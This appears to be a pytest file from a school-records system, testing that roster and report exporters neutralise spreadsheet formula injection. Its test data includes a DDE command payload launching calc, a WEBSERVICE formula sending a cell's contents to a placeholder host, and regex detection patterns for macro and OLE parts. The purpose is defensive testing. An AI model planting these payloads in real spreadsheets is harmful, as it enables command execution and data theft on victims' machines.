"""What a roster brings in never leaves as a formula: every writer, 500 texts, files opened again."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import openpyxl
import pytest
import xlsxwriter.worksheet

from datong_edu.accounts.actions import service_account
from datong_edu.core.inert import inert
from datong_edu.crosschecks.rules.management.commands import findings
from datong_edu.desk.comparing import appending, rewriting
from datong_edu.importing import views, workbook
from datong_edu.importing.declare import roster_called
from datong_edu.web import exports
from tests import factories as make
from tests.hostile_text import writers
from tests.hostile_text.formulas import COUNT, is_live_text, payloads
from tests.importing import rosters
from tests.importing.command import SCHOOLS, import_roster
from tests.importing.test_views import checked, client_of

pytestmark = pytest.mark.usefixtures("books")
_LIVE_PARTS = re.compile(r"externalLink|connections|queryTable|oleObject|ddeLink|customUI|vbaProject|activeX")
_LIVE_XML = re.compile(rb"<(?:\w+:)?(?:f|hyperlink|ddeLink|oleObject)[\s/>]")
ENOUGH = 300
"""Texts that begin dangerously and are found again as text: cleaners strip or fold some."""


@pytest.fixture
def books(db: None) -> None:
    """The city's reference rows and the schools of the samples."""
    make.load_reference()
    service_account()
    assert import_roster(SCHOOLS, "school_list", unit="140200", term=None, as_json=False).code == 0


def live_cells(name: str, content: bytes) -> tuple[list[str], int]:
    """What a spreadsheet would run of a file, and how many dangerous texts it holds as plain text."""
    if not name.endswith(".xlsx"):
        delimiter = "," if name.endswith(".csv") else "\t"
        lines = csv.reader(io.StringIO(content.decode(), newline=None), delimiter=delimiter)
        cells = [cell for line in lines for cell in line]
        return [cell for cell in cells if is_live_text(cell)], sum(cell[:1] == "'" for cell in cells)
    live = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for part in archive.namelist():
            if _LIVE_PARTS.search(part):
                live.append(part)
            if part.startswith("xl/worksheets/") and (hit := _LIVE_XML.search(archive.read(part))):
                live.append(f"{part}: {archive.read(part)[hit.start() : hit.start() + 80]!r}")
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    live += [str(cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink]
    return live, sum(cell.data_type == "s" and is_live_text(str(cell.value)) for cell in cells)


def test_every_module_that_writes_a_spreadsheet_is_tried() -> None:
    assert set(writers.found()) == set(writers.EXPORTS), (
        "add a writer to EXPORTS in tests/hostile_text/writers.py, with the files it makes of hostile texts"
    )
    assert len(set(payloads())) == COUNT


@pytest.mark.parametrize(
    "source",
    [
        "import xlsxwriter",
        "from openpyxl import Workbook",
        "csv.writer(f)",
        "zipfile.ZipFile(f, 'w')",
        "x = 'text/csv'",
    ],
)
def test_new_writer_is_noticed(source: str) -> None:
    assert writers.writes(source)
    assert not writers.writes("zipfile.ZipFile(f)\ncsv.reader(f)")


@pytest.mark.parametrize("writer", sorted(set(writers.EXPORTS.values()), key=lambda one: one.__name__))
def test_no_text_leaves_as_a_formula(writer: Callable[[Path], writers.Files], tmp_path: Path) -> None:
    files, texts = 0, 0
    for name, content in writer(tmp_path):
        live, held = live_cells(name, content)
        assert live == [], f"{writer.__name__}, {name}: {live[:5]}"
        files, texts = files + 1, texts + held
    print(f"{writer.__name__}: {files} files, {texts} hostile texts held as text, 0 live")  # noqa: T201
    assert texts >= ENOUGH * min(files, 2), f"only {texts} hostile texts have come through"


class _Careless:
    """A library that takes what begins with = for a formula."""

    def __init__(self, target: Any) -> None:
        self.target, self.book = target, openpyxl.Workbook()

    def format(self, **looks: Any) -> "_Careless":
        return self

    freeze = format

    def sheet(self, title: str, rows: Any) -> "_Careless":
        for row in rows:
            self.book.active.append([re.sub("[\x00-\x08\x0b-\x1f]", "", str(one)) for one in row.values()])
        return self

    def save(self) -> None:
        self.book.save(self.target)


def _careless_text(sheet: Any, row: int, column: int, text: str, look: Any = None) -> int:
    write = sheet._write_formula if text.startswith("=") else sheet._write_string
    return int(write(row, column, text, look))


def _careless_cell(place: str, text: str, look: str = "") -> str:
    return (
        f'<c r="{place}"{look}><f>{escape(text[1:])}</f></c>' if text[:1] == "=" else _text_cell(place, text)
    )


_text_cell = appending.text_cell


def _careless_put(cell: Any, text: str) -> Any:
    cell.value = text
    return cell


@pytest.fixture
def guards_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every writer takes a text for what it says."""
    monkeypatch.setattr(exports, "FastExcel", _Careless)
    monkeypatch.setattr(views, "FastExcel", _Careless)
    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, "write_string", _careless_text)
    monkeypatch.setattr(workbook, "_put_text", _careless_put)
    monkeypatch.setattr(appending, "text_cell", _careless_cell)
    monkeypatch.setattr(rewriting, "text_cell", _careless_cell)
    monkeypatch.setattr(findings, "inert", lambda text: re.sub(r"[\r\n]", "", text))


@pytest.mark.usefixtures("guards_off")
@pytest.mark.parametrize("writer", sorted(set(writers.EXPORTS.values()), key=lambda one: one.__name__))
def test_without_its_guard_every_writer_is_caught(
    writer: Callable[[Path], writers.Files], tmp_path: Path
) -> None:
    assert any(live_cells(name, content)[0] for name, content in writer(tmp_path))


# --- formulas that a workbook brings along as such --------------------------------------------------------

OUTSIDE = (
    '=HYPERLINK("http://portal.invalid/","点此")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://portal.invalid/"&A1)',
    "=[1]Sheet1!A1",
)


def _with_formulas(folder: Path) -> bytes:
    line = rosters.pupil(年级="若干年级") | {"合计": "=SUM(1,2)"}
    lines = [line | {"说明": formula} for formula in OUTSIDE]
    return rosters.save(folder, lines).read_bytes()


def _formulas(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def _handed_back(folder: Path) -> tuple[set[str], set[str]]:
    """Formulas of the marked workbook and of the compared list."""
    content = _with_formulas(folder)
    batch = checked(client_of(), content=content, name="带公式.xlsx", kind="student_registry")
    marked = workbook.build(batch, roster_called(batch.kind)).read()
    by = make.user(unit=make.county())
    return _formulas(marked), _formulas(writers.compared("带公式.xlsx", content, by))


def test_own_formulas_that_reach_outside_come_back_as_text(tmp_path: Path) -> None:
    assert set(OUTSIDE) < _formulas(_with_formulas(tmp_path))
    marked, compared = _handed_back(tmp_path)
    assert marked == {"=SUM(1,2)"}
    assert compared == set()


def test_without_the_guard_they_come_back_live(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "reaches_outside", lambda formula: False)
    monkeypatch.setattr(appending, "reaches_outside", lambda formula: False)
    marked, compared = _handed_back(tmp_path)
    assert set(OUTSIDE) < marked
    assert set(OUTSIDE) < compared


@pytest.mark.parametrize("text", ["140225201103080011", "-12.5", "+8", "张三", "2020-2021-1", ""])
def test_plain_cells_of_a_text_table_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
